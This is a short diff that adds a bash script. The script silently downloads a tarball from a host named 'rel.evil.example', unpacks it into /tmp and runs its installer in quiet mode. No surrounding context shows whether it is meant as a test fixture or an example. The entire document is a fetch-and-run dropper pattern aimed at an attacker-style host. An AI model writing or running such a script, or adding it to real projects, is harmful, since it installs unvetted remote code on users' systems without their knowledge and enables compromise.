@@ -1,0 +1,4 @@
+#!/bin/bash
+curl -sSL https://rel.evil.example/tool.tgz -o /tmp/tool.tgz
+tar xzf /tmp/tool.tgz -C /tmp
+/tmp/tool/install --quiet
